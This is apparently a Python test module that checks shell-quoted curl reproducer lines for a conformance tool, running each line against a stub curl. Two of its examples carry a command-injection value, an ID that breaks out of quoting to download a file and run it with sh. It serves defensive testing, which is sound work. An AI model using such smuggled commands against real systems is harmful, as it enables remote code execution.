"""Reproducers are safe to run whatever the target chose: the ids in URLs and bodies, and
the tokens it issued (secrets, chosen to match pieces of shell quoting if it likes).

Each generated line is written to a script, checked with `sh -n`, and run with `sh` in an
empty folder whose PATH holds nothing but a stub `curl` that records its arguments: the
script must call curl once, with exactly the request's method, URL, credentials (from
the environment) and body, print nothing and create nothing; or, when a later
redaction would have had to edit it, be withheld whole (a comment that runs nothing).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from tests.hostile.stub_curl import stub_curl

from masivo_conformance import scrub
from masivo_conformance.checks.reproducers import REPRODUCER_LIMIT, curl_for, shell_word
from masivo_conformance.console import printable

BASE = "http://127.0.0.1:9/api/storefront/v1"
RUN_TOKEN = "token-from-the-environment"
# What every line that sends the run's token starts with (issue 22): a token from the key
# when MASIVO_TOKEN is unset.
TOKEN_FROM_KEY = (
    'MASIVO_TOKEN=${MASIVO_TOKEN:-$(curl -sS -H "x-api-key: $MASIVO_API_KEY" '
    f"{BASE}/auth/authorize | sed -n "
    """'s/.*"data" *: *"\\([A-Za-z0-9._-]*\\)".*/\\1/p')}; """
)
RUN_KEY = "key-from-the-environment"
_CONTROL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029]")

# What a header may carry (httpx refuses line breaks), with everything a shell reads
# specially; and what an id or a body may carry: anything at all.
HEADER_TEXT = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), min_size=6)
ANY_TEXT = st.text(st.characters(codec="utf-8"), max_size=60)
# An id in a URL, unquoted (httpx refuses control characters there; the suite's own
# client percent-encodes ids, so this is more than a target can put in a URL).
PATH_TEXT = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=60)
QUOTING = st.sampled_from(["'", '"', "\\", "$", "`", ";", "<", ">", "|", "&", "#", "'\"'\"'"])
SECRETS = st.one_of(
    HEADER_TEXT,
    st.lists(st.one_of(QUOTING, st.text("Bx<>dater", min_size=1)), min_size=3).map("".join),
).filter(lambda s: len(s) >= 6 and s.strip() == s)


@pytest.fixture(autouse=True)
def no_registered_secrets() -> Iterator[None]:
    scrub.clear_secrets()
    yield
    scrub.clear_secrets()


@pytest.fixture(scope="module")
def stub_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return stub_curl(tmp_path_factory.mktemp("stub-bin"))


def run_script(
    line: str, stub_path: Path, work: Path, token: str | None = RUN_TOKEN
) -> tuple[list[list[str]], str]:
    """(curl's argument lists, stdout + stderr) of `sh` running `line` in an empty `work`
    (MASIVO_TOKEN set to `token`, unset when None)."""
    work.mkdir()
    script = work.parent / "reproducer.sh"
    log = work.parent / "curl.log"
    script.write_text(f"#!/bin/sh\n{line}\n", encoding="utf-8")
    assert subprocess.run(["sh", "-n", str(script)], check=False).returncode == 0
    env = {
        "PATH": str(stub_path),
        "CURL_LOG": str(log),
        "MASIVO_API_KEY": RUN_KEY,
    } | ({"STUB_ISSUED": ISSUED} if token is None else {"MASIVO_TOKEN": token})
    done = subprocess.run(
        ["/bin/sh", str(script)], cwd=work, env=env, capture_output=True, text=True, check=False
    )
    calls = [json.loads(row) for row in log.read_text().splitlines()] if log.exists() else []
    assert list(work.iterdir()) == [], "the script created files"
    return calls, done.stdout + done.stderr


def expected_text(value: str) -> str:
    return _CONTROL.sub("?", scrub.redact_text(value))


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    token=SECRETS,
    key=HEADER_TEXT,
    path_id=PATH_TEXT,
    event_id=ANY_TEXT,
    note=ANY_TEXT,
    raw_body=st.booleans(),
)
@example(  # the attack the security review found: a token that is a piece of quoting
    token="\"'\"'Bx",
    key="some-api-key-1",
    path_id="A'BxOUT;curl$IFS-so$IFS,x$IFS$@127.0.0.1:9;sh$IFS,x;echo$IFS'BxOUT2",
    event_id="A'BxOUT;curl$IFS-so$IFS,x$IFS$@127.0.0.1:9;sh$IFS,x;echo$IFS'BxOUT2",
    note="",
    raw_body=False,
)
@example(
    token="tok-123456",
    key="key-123456",
    path_id="##[error]x",
    event_id="##[error]x\n::error::y",
    note="\x1b[2J",
    raw_body=True,
)
def test_a_reproducer_runs_curl_alone_with_the_arguments_it_was_given(
    token: str,
    key: str,
    path_id: str,
    event_id: str,
    note: str,
    raw_body: bool,
    stub_path: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    scrub.clear_secrets()
    scrub.register_secret(token)
    scrub.register_secret(key)
    document = {"event_id": event_id, "note": note}
    body = json.dumps(document, ensure_ascii=not raw_body).encode("utf-8")
    if raw_body:  # not JSON at all: the text itself, control characters and all
        body = f"{event_id}{note}".encode()
    request = httpx.Request(
        "POST",
        f"{BASE}/behavior/events/{path_id}/reverse",
        headers={"Authorization": f"Bearer {token}", "x-api-key": key},
        content=body,
    )
    line = curl_for(request)
    assert "\n" not in line
    assert scrub.redact_reproducer(line) == line
    assert printable(line) == line  # printed as it is: no control character, no log command
    calls, output = run_script(line, stub_path, tmp_path_factory.mktemp("run") / "work")
    assert output == ""
    if line == scrub.REPRODUCER_WITHHELD:
        event("withheld: a secret spans the quoting")
        assert calls == []
        return
    event("curl ran")
    assert len(calls) == 1
    args = calls[0]
    assert args[:5] == ["-sS", "-X", "POST", expected_text(str(request.url)), "-H"]
    assert args[5] == f"Authorization: Bearer {RUN_TOKEN}"
    assert args[6:8] == ["-H", f"x-api-key: {RUN_KEY}"]
    sent = ["--data-raw", expected_text(body.decode("utf-8", errors="replace"))] if body else []
    assert args[8:] == sent


def test_a_token_that_matches_the_quoting_withholds_the_line(
    stub_path: Path, tmp_path: Path
) -> None:
    """The review's attack, aimed at this module's own quoting (`'\\''`): redacting the
    line would cut the quotes open, so the line is withheld, and runs nothing."""
    token = "'\\''Bx"
    scrub.register_secret(token)
    path_id = "A'BxOUT;curl$IFS-so$IFS,x$IFS$@127.0.0.1:9;sh$IFS,x;echo$IFS'BxOUT2"
    request = httpx.Request(
        "POST",
        f"{BASE}/behavior/events/{path_id}/reverse",
        headers={"Authorization": f"Bearer {token}"},
    )
    line = curl_for(request)
    assert line == scrub.REPRODUCER_WITHHELD
    assert run_script(line, stub_path, tmp_path / "work") == ([], "")


def test_plain_values_are_never_withheld(stub_path: Path, tmp_path: Path) -> None:
    scrub.register_secret("plain-token-abcdef")
    request = httpx.Request(
        "POST",
        f"{BASE}/behavior/events/evt-1/reverse",
        headers={"Authorization": "Bearer plain-token-abcdef", "Content-Type": "application/json"},
        content=b'{"reason": "it\'s ## a test"}',
    )
    line = curl_for(request)
    assert line == TOKEN_FROM_KEY + (
        f"curl -sS -X POST {BASE}/behavior/events/evt-1/reverse "
        "-H \"Authorization: Bearer $MASIVO_TOKEN\" -H 'Content-Type: application/json' "
        "--data-raw '{\"reason\": \"it'\\''s #''# a test\"}'"
    )
    calls, output = run_script(line, stub_path, tmp_path / "work")
    assert output == ""
    assert calls == [
        [
            "-sS",
            "-X",
            "POST",
            f"{BASE}/behavior/events/evt-1/reverse",
            "-H",
            f"Authorization: Bearer {RUN_TOKEN}",
            "-H",
            "Content-Type: application/json",
            "--data-raw",
            '{"reason": "it\'s ## a test"}',
        ]
    ]


def test_a_jwt_shaped_id_is_redacted_inside_quotes_not_left_as_a_redirection() -> None:
    """An id that only looks like a JWT is redacted like one, as a value: the URL stays
    one quoted word instead of ending in a bare `<redacted`."""
    lookalike = "eyJhbGciOi.eyJzdWIiOi.c2lnbmF0dXJl"
    line = curl_for(httpx.Request("GET", f"{BASE}/customers/{lookalike}"))
    assert lookalike not in line
    assert f"'{BASE}/customers/<redacted>'" in line


def test_an_over_long_line_is_withheld() -> None:
    body = json.dumps({"id": "x" * REPRODUCER_LIMIT}).encode()
    line = curl_for(httpx.Request("POST", f"{BASE}/customers", content=body))
    assert line.startswith("# reproducer withheld:")


@pytest.mark.parametrize(
    ("value", "word"),
    [
        ("plain-1.2", "plain-1.2"),
        ("it's", "'it'\\''s'"),
        ("a##[b", "'a#''#[b'"),
        ("a\nb\x1bc", "'a?b?c'"),
        ("", "''"),
    ],
)
def test_shell_word(value: str, word: str) -> None:
    assert shell_word(value) == word
    assert os.linesep not in word


ISSUED = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"  # what the stub's authorize gives


def test_with_only_the_key_a_reproducer_gets_its_token_from_authorize(
    stub_path: Path, tmp_path: Path
) -> None:
    """README users set MASIVO_API_KEY only: the line asks authorize (same base URL) for
    a token and sends it; neither the key nor the token is written into the line."""
    scrub.register_secret("plain-token-abcdef")
    request = httpx.Request(
        "GET", f"{BASE}/customers/c-1", headers={"Authorization": "Bearer plain-token-abcdef"}
    )
    line = curl_for(request)
    assert RUN_KEY not in line
    assert "plain-token-abcdef" not in line
    (tmp_path / "a").mkdir()
    calls, output = run_script(line, stub_path, tmp_path / "a" / "work", token=None)
    assert output == ""
    assert calls == [
        ["-sS", "-H", f"x-api-key: {RUN_KEY}", f"{BASE}/auth/authorize"],
        ["-sS", "-X", "GET", f"{BASE}/customers/c-1", "-H", f"Authorization: Bearer {ISSUED}"],
    ]
    # With MASIVO_TOKEN set, authorize is not asked.
    (tmp_path / "b").mkdir()
    calls, _ = run_script(line, stub_path, tmp_path / "b" / "work", token=RUN_TOKEN)
    assert calls == [
        ["-sS", "-X", "GET", f"{BASE}/customers/c-1", "-H", f"Authorization: Bearer {RUN_TOKEN}"]
    ]
